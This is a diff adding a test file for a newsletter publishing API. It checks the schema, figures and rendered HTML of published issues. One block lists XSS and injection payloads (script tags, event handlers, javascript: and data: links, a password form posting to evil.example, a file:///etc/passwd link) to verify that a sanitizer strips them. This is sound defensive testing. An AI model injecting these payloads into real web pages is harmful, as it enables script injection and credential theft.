@@ -1,0 +1,284 @@
+import { beforeAll, describe, expect, test } from 'vitest';
+import { publishedIssue } from '../../src/modules/delivery/schemas.ts';
+import { useMasthead } from '../support/app.ts';
+import {
+  makeIssue,
+  makeMedia,
+  makeNewsletter,
+  makePaper,
+  makePerson,
+  publish,
+} from '../support/factories.ts';
+
+const masthead = useMasthead();
+
+/** Publishes an issue of these fields, and reads it as a frontend does. */
+async function publishAndRead(fields: object, newsletterFields: object = {}) {
+  const newsletter = await makeNewsletter(masthead, newsletterFields);
+  const sections = [{ title: 'Notes', items: [{ kind: 'note', title: 'One', body: 'A note.' }] }];
+  const issue = await makeIssue(masthead, {
+    newsletterId: newsletter.id,
+    title: 'An issue',
+    sections,
+    ...fields,
+  });
+  await publish(masthead, issue.id);
+  const { body } = await masthead.anonymous.get(`/content/v1/newsletters/${newsletter.slug}/issues/latest`);
+  return body;
+}
+
+describe('an issue with everything in it', () => {
+  // biome-ignore lint/suspicious/noExplicitAny: as a client without types would read it.
+  let issue: any;
+  let media: Record<'cover' | 'avatar' | 'placed' | 'listed', { id: string; url: string }>;
+
+  beforeAll(async () => {
+    media = {
+      cover: await makeMedia(masthead, { alt: 'A cover' }),
+      avatar: await makeMedia(masthead, { alt: '' }),
+      placed: await makeMedia(masthead, { alt: 'Placed', caption: 'By the <media>', creditText: 'Someone' }),
+      listed: await makeMedia(masthead),
+    };
+    const person = await makePerson(masthead, {
+      name: 'An author',
+      bio: 'Writes.',
+      avatarId: media.avatar.id,
+      links: [{ label: 'Web', url: 'https://example.org' }],
+    });
+    const paper = await makePaper(masthead, {
+      title: 'A paper',
+      authors: [{ name: 'A. Uthor' }],
+      year: 2022,
+    });
+    issue = await publishAndRead({
+      number: 26,
+      slug: 'february-2022',
+      title: 'What you missed',
+      subtitle: 'In short',
+      intro: 'Hello *reader*.',
+      signOff: 'Goodbye.',
+      coverage: { from: '2022-02-01', to: '2022-02-28' },
+      authorIds: [person.id],
+      cover: { mediaId: media.cover.id, caption: 'In front' },
+      tags: ['vision', 'language'],
+      sections: [
+        {
+          title: 'Papers & research',
+          emoji: '📰',
+          intro: 'Four of them.',
+          items: [
+            {
+              kind: 'paper',
+              title: 'BLIP',
+              paperId: paper.id,
+              body: `Before.\n\n![fallback](media:${media.placed.id})\n\nAfter.`,
+              links: [{ label: 'Code', url: 'https://example.org/code', rel: 'code' }],
+              figures: [
+                {
+                  mediaId: media.listed.id,
+                  alt: 'Listed "so"',
+                  caption: 'After the body',
+                  credit: { text: 'Her', url: 'https://example.org/her', licence: 'CC BY 4.0' },
+                },
+              ],
+              tags: ['multimodal'],
+            },
+            { kind: 'note', title: 'A note', body: 'Words.' },
+          ],
+        },
+        {
+          title: 'Listen',
+          items: [
+            {
+              kind: 'media',
+              title: 'A podcast',
+              links: [{ label: 'Here', url: 'https://example.org/p', rel: 'audio' }],
+            },
+          ],
+        },
+      ],
+    });
+  });
+
+  test('is what the OpenAPI document says, without a field more', () => {
+    expect(publishedIssue.parse(issue)).toEqual(issue);
+    expect(Object.keys(issue).toSorted()).toEqual(
+      [
+        ...['id', 'number', 'slug', 'title', 'subtitle', 'coverage', 'authors', 'cover', 'tags', 'wordCount'],
+        ...['readingMinutes', 'publishedAt', 'updatedAt', 'edition', 'newsletter', 'intro', 'sections'],
+        ...['signOff', 'previous', 'next'],
+      ].toSorted(),
+    );
+  });
+
+  test('holds everything, resolved and in order', () => {
+    expect(issue).toMatchObject({
+      number: 26,
+      slug: 'february-2022',
+      subtitle: 'In short',
+      intro: { markdown: 'Hello *reader*.', html: '<p>Hello <em>reader</em>.</p>' },
+      signOff: { markdown: 'Goodbye.', html: '<p>Goodbye.</p>' },
+      coverage: { from: '2022-02-01', to: '2022-02-28' },
+      authors: [{ name: 'An author', avatar: { mediaId: media.avatar.id, alt: '' } }],
+      cover: { mediaId: media.cover.id, alt: 'A cover', caption: 'In front' },
+      tags: ['vision', 'language'],
+      edition: 1,
+      sections: [
+        {
+          title: 'Papers & research',
+          emoji: '📰',
+          intro: { html: '<p>Four of them.</p>' },
+          items: [
+            { title: 'BLIP', anchor: 'blip', kind: 'paper', paper: { title: 'A paper', year: 2022 } },
+            { title: 'A note', anchor: 'a-note', paper: null, figures: [] },
+          ],
+        },
+        { title: 'Listen', emoji: null, intro: null, items: [{ kind: 'media', body: null }] },
+      ],
+      previous: null,
+      next: null,
+    });
+    expect(issue.wordCount).toBeGreaterThan(0);
+    expect(issue.readingMinutes).toBe(1);
+  });
+
+  test('names every figure by an absolute address that serves it', async () => {
+    const [item] = issue.sections[0].items;
+    const figures = [issue.cover, issue.authors[0].avatar, ...item.figures];
+    const expected = [media.cover, media.avatar, media.placed, media.listed];
+    expect(figures.map(({ url }) => url)).toEqual(expected.map(({ url }) => url));
+    for (const { url, width, height, mimeType } of figures) {
+      expect(url).toMatch(/^http:\/\/masthead\.test\/media\/[\w-]+\.png$/);
+      expect({ width, height, mimeType }).toEqual({ width: 4, height: 3, mimeType: 'image/png' });
+      const file = await masthead.app.inject(new URL(url).pathname);
+      expect(file).toMatchObject({ statusCode: 200, headers: { 'content-type': 'image/png' } });
+    }
+    expect(JSON.stringify(issue)).not.toContain('masthead:');
+  });
+
+  test('places a figure between two paragraphs, with its size, its words and its caption', () => {
+    const { html } = issue.sections[0].items[0].body;
+    expect(html).toMatch(/^<p>Before\.<\/p>\s*<figure>.*<\/figure>\s*<p>After\.<\/p>/s);
+    const [placed = '', listed = ''] = html.match(/<figure>.*?<\/figure>/gs) ?? [];
+    expect(placed).toContain(`<img src="${media.placed.url}" alt="Placed" width="4" height="3"`);
+    expect(placed).toContain(
+      '<figcaption>By the &#x3C;media> <span class="credit">Someone</span></figcaption>',
+    );
+    expect(listed).toContain(`src="${media.listed.url}"`);
+    expect(listed).toContain('alt="Listed &#x22;so&#x22;"');
+    expect(listed).toMatch(
+      /<figcaption>After the body <span class="credit"><a href="https:\/\/example\.org\/her">Her<\/a> \(CC BY 4\.0\)<\/span><\/figcaption>/,
+    );
+    expect(html.indexOf(listed)).toBeGreaterThan(html.indexOf('After.'));
+  });
+});
+
+test('an issue with next to nothing in it keeps to the schema too', async () => {
+  const issue = await publishAndRead({});
+  expect(publishedIssue.parse(issue)).toEqual(issue);
+});
+
+describe('Markdown that means harm', () => {
+  const harm = [
+    '<script>alert(1)</script>',
+    '<img src=x onerror=alert(1)>',
+    '<svg onload=alert(1)>',
+    '<iframe src="https://evil.example"></iframe>',
+    '<style>body { display: none }</style>',
+    '<a href="javascript:alert(1)" onclick="alert(1)">a</a>',
+    '<form action="https://evil.example"><input name=password></form>',
+    '<meta http-equiv="refresh" content="0;url=https://evil.example">',
+    '<base href="https://evil.example">',
+    '<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>',
+    '[a](javascript:alert(1))',
+    '[a](JaVaScRiPt:alert(1))',
+    '[a](&#106;avascript:alert(1))',
+    '[a](java\tscript:alert(1))',
+    '[a](<javascript:alert(1)>)',
+    '[a](vbscript:alert(1))',
+    '[a](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)',
+    '[a](file:///etc/passwd)',
+    '[a](masthead:other/x)',
+    '![a](javascript:alert(1))',
+    '![a](data:image/svg+xml;base64,PHN2Zy8+)',
+    '![a](http://tracker.example/pixel.gif)',
+    '![a](masthead:other/x.png)',
+    '![a" onerror="alert(1)](https://example.org/x.png "t\\" onload=\\"alert(1)")',
+    '<javascript:alert(1)>',
+    '[a]: javascript:alert(1)\n\n[a]',
+    '<https://example.org/"onmouseover="alert(1)>',
+    '```html"onload="alert(1)\n<script>alert(1)</script>\n```',
+    '| <script>alert(1)</script> |\n|---|\n| <b onclick=alert(1)>x</b> |',
+    'A note[^1].\n\n[^1]: <script>alert(1)</script>',
+    '# <script>alert(1)</script> {#id onclick=alert(1)}',
+    '- [x] <script>alert(1)</script>',
+    '&lt;script&gt;alert(1)&lt;/script&gt;',
+  ];
+
+  test.each(harm)('is served without it: %s', async (markdown) => {
+    const text = `Before.\n\n${markdown}\n\nAfter.`;
+    const issue = await publishAndRead({
+      intro: text,
+      signOff: text,
+      sections: [{ title: 'x', intro: text, items: [{ kind: 'note', title: 'x', body: text }] }],
+    });
+    const [section] = issue.sections;
+    for (const { markdown: kept, html } of [
+      issue.intro,
+      issue.signOff,
+      section.intro,
+      section.items[0].body,
+    ]) {
+      expect(kept).toBe(text);
+      expect(html).toContain('After.');
+      expect(findHarm(html)).toEqual([]);
+    }
+  });
+
+  test('in titles, tags and captions stays text in JSON', async () => {
+    const html = '</script><img src=x onerror=alert(1)>';
+    const media = await makeMedia(masthead, { alt: html, caption: html, creditText: html });
+    const issue = await publishAndRead({
+      title: html,
+      sections: [{ title: html, items: [{ kind: 'note', title: html, body: `![](media:${media.id})` }] }],
+    });
+    expect(issue).toMatchObject({ title: html, sections: [{ title: html, items: [{ title: html }] }] });
+    const { body, figures } = issue.sections[0].items[0];
+    expect(figures).toMatchObject([{ alt: html, caption: html, credit: { text: html } }]);
+    expect(findHarm(body.html)).toEqual([]);
+  });
+});
+
+const ELEMENTS =
+  /^(a|p|em|strong|del|code|pre|br|hr|h[1-6]|ul|ol|li|blockquote|table|thead|tbody|tr|th|td|sup|section|input|img|figure|figcaption|span)$/;
+const ATTRIBUTES =
+  /^(href|src|alt|title|width|height|loading|decoding|class|id|start|align|checked|disabled|type|aria-[a-z]+|data-footnote[a-z-]*)$/;
+const ADDRESS = /^(https?:\/\/|mailto:|#)/;
+
+/** What in it is no tag, attribute or address that an issue may have. */
+function findHarm(html: string): string[] {
+  const tags = [...html.matchAll(/<\/?([a-z][a-z0-9]*)((?:\s+[a-z-]+(?:="[^"]*")?)*)\s*>/g)];
+  const rest = tags.reduce((text, [tag]) => text.replace(tag, ''), html);
+  const attributes = tags.flatMap(([, , text = '']) => [...text.matchAll(/([a-z-]+)(?:="([^"]*)")?/g)]);
+  return [
+    ...(rest.includes('<') ? [rest] : []),
+    ...tags.flatMap(([tag, name = '']) => (ELEMENTS.test(name) ? [] : [tag])),
+    ...attributes.flatMap(([text, name = '', value = '']) => {
+      const isAddress = name === 'href' || name === 'src';
+      return ATTRIBUTES.test(name) && (!isAddress || ADDRESS.test(value)) ? [] : [text];
+    }),
+  ];
+}
+
+test('the judge of harm knows harm', () => {
+  expect(findHarm('<p>a <a href="https://example.org">b</a></p>')).toEqual([]);
+  for (const html of [
+    '<script>',
+    '<p onclick="x">',
+    '<a href="javascript:x">',
+    '<img src=x onerror=y>',
+    '<p',
+  ]) {
+    expect(findHarm(html)).not.toEqual([]);
+  }
+});
